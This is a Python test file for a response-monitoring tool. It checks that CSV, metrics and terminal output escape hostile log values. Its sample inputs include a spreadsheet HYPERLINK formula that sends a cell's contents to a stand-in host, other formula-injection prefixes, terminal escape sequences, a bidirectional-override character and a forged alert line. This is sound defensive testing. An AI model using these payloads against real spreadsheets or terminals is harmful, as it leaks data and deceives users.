"""Texts of logs and models that would be formulas, terminal commands, or metrics of their own."""

import csv
import re
from pathlib import Path
from typing import Any

import polars as pl
import pytest
from calling import run
from production import fitted, line, log_file, saved, traffic
from prometheus_client.parser import text_string_to_metric_families

import entropy_sentinel as es
from entropy_sentinel.core.errors import ConfigError
from entropy_sentinel.monitor.showing.result_files import format_metrics

pytestmark = pytest.mark.slow

FORMULA = '=HYPERLINK("http://x.example/?q="&A1,"see")'
NASTY = [
    FORMULA,
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\x1b[2J\x1b]0;owned\x07",
    "a\rb",
    "line\nALERT all: nothing is wrong",
    "user\u202egpj",
    "\x9b31m",
    'quote"back\\slash',
    "{}=,",
    "# EOF",
    "(others)",
    "(none)",
    '"(others)"',
    "-",
    "",
    "'=1",
]
# What a terminal takes for commands: C0 but for ends of lines and tabs, DEL, C1, and what sets the direction of text.
RAW = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")


@pytest.fixture(scope="module")
def estimator(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return saved(tmp_path_factory.mktemp("estimator"), "log-3d")


@pytest.fixture
def log(tmp_path: Path) -> Path:
    """Three responses by each name; the nasty text is its route, its question, its answer and its user."""
    records = [
        line(3 * number + one, id=f"{route}-{number}-{one}" if one else f"{route}{number}", text=route, route=route)
        | {"prompt": route, "user": route[:5]}
        for number, route in enumerate(NASTY)
        for one in range(3)
    ]
    return log_file(tmp_path / "log.jsonl", records)


def said_by(capsys: pytest.CaptureFixture, *arguments: Any) -> tuple[int, str]:
    """Exit status, and output and errors together."""
    status, output, errors = run(capsys, *arguments)
    return status, output + errors


def cells(path: Path) -> list[str]:
    with path.open(newline="") as lines:
        return [cell for row in csv.reader(lines) for cell in row]


def is_formula(cell: str) -> bool:
    return cell[:1] in tuple("=+@\t\r\n") or (cell[:1] == "-" and not re.fullmatch(r"-[0-9.e-]+", cell))


def test_nothing_raw_reaches_the_terminal_or_a_spreadsheet(
    log: Path, estimator: Path, tmp_path: Path, capsys: pytest.CaptureFixture
) -> None:
    rows, metrics, slices = tmp_path / "rows.csv", tmp_path / "m.prom", tmp_path / "slices.csv"
    watch = ("monitor", estimator, log, "--by", "route", "--fail-below", 0.99, "--min-responses", 1)
    status, message = said_by(capsys, *watch, "-o", rows, "--metrics", metrics)
    assert status == 4
    assert "␛[2J␛]0;owned␇" in message
    assert not RAW.search(message)
    # A line of a log is no line of ours.
    assert not [line for line in message.splitlines() if line.startswith("ALERT all")]
    _, table = said_by(capsys, "estimate", estimator, log, "--by", "route", "-o", slices)
    assert not RAW.search(table)
    for path in (rows, slices):
        assert "'" + FORMULA in cells(path)
        assert [cell for cell in cells(path) if is_formula(cell)] == []
    routes = pl.read_csv(slices, infer_schema=False)["route"].to_list()
    assert len(routes) == len(set(routes)) == len(NASTY)
    read = {one.name: one.samples for one in text_string_to_metric_families(metrics.read_bytes().decode())}
    named = [one.labels["route"] for one in read["entropy_sentinel_responses"]]
    assert len(named) == len(set(named)) == len(NASTY)
    own = {'"(others)"': "(others)", '"(none)"': "(none)", '""(others)""': '"(others)"'}
    assert sorted(own.get(one, one) for one in named) == sorted(NASTY)
    assert {one.value for one in read["entropy_sentinel_responses"]} == {3}


def test_what_is_to_be_labelled_holds_no_formula_and_its_labels_find_their_responses(
    log: Path, estimator: Path, tmp_path: Path, capsys: pytest.CaptureFixture
) -> None:
    target = tmp_path / "to_label.csv"
    status, message = said_by(
        capsys, "sample", estimator, log, "--by", "route", "-n", 57, "--per-slice", 1, "-o", target
    )
    assert status == 0
    assert not RAW.search(message)
    assert [cell for cell in cells(target) if is_formula(cell)] == []
    assert "'" + FORMULA in cells(target)
    chosen = pl.read_csv(target, infer_schema=False)
    chosen.with_columns(label=pl.lit("true")).write_csv(target)
    labels, features = es.read_labels(target), es.read_features(log, columns=["route"])
    assert set(labels["item_id"]) == set(features["item_id"])
    assert labels["item_id"].n_unique() == 57
    table = es.estimate(es.load(estimator), features, ["model"], labels)
    assert table["n_labelled"].to_list() == [57]


@pytest.mark.parametrize("others", [3, 1000])
def test_slices_of_our_own_names_make_no_series_twice(others: int) -> None:
    """A route `(others)` beside the pooled one, a route `(none)` beside a response without one."""
    names = pl.Series(["(others)", '"(others)"', "(none)", None, "a", "b", "c"])
    features = traffic(700).with_columns(route=pl.Series([names[number % 7] for number in range(700)]))
    result = es.monitor(fitted("atc-se_sum"), features, by=["route"], max_slices=others)
    read = {one.name: one.samples for one in text_string_to_metric_families(format_metrics(result))}
    series = [tuple(one.labels.items()) for one in read["entropy_sentinel_responses"]]
    assert len(series) == len(set(series)) == min(others + 1, 7)
    assert sum(one.value for one in read["entropy_sentinel_responses"]) == 700
    labels = {one.labels["route"] for one in read["entropy_sentinel_responses"]}
    if others == 1000:
        assert labels == {'"(others)"', '""(others)""', '"(none)"', "(none)", "a", "b", "c"}
    else:
        assert "(others)" in labels


@pytest.mark.parametrize("name", ["metadata.a\nb", "metadata.a\0b", "\x1b[31m", "", "a\u202eb"])
def test_a_column_that_no_file_can_name_is_refused(name: str, log: Path, estimator: Path) -> None:
    for verb in (es.monitor, es.sample):
        with pytest.raises(ConfigError, match=r"by: the name of a column .* got '") as refused:
            verb(estimator, log, [name])
        assert not RAW.search(str(refused.value))


def test_columns_of_such_names_do_no_harm_where_nobody_asks_for_them(
    estimator: Path, tmp_path: Path, capsys: pytest.CaptureFixture
) -> None:
    records = [line(number) | {"a\nb": "x", "c\0d": "y", "=e": "z", "\x1b[31m": "w"} for number in range(9)]
    log, features = log_file(tmp_path / "log.jsonl", records), tmp_path / "f.parquet"
    status, message = said_by(capsys, "features", log, "-o", features)
    assert status == 0
    assert not RAW.search(message)
    for what in (log, features):
        few = ["--min-responses", "5", "-o", tmp_path / "rows.csv"]
        status, message = said_by(capsys, "monitor", estimator, what, "--by", "route", *few)
        assert status == 0
        assert not RAW.search(message)
        status, message = said_by(capsys, "monitor", estimator, what, "--by", "=e", *few)
        assert (status, cells(tmp_path / "rows.csv")[0]) == (0, "'=e")


def test_errors_too(estimator: Path, tmp_path: Path, capsys: pytest.CaptureFixture) -> None:
    log = log_file(tmp_path / "log.jsonl", [line(number, model="\x1b[2Jother\u202e") for number in range(5)])
    status, message = said_by(capsys, "estimate", estimator, log)
    assert status == 1
    assert "other" in message
    assert not RAW.search(message)
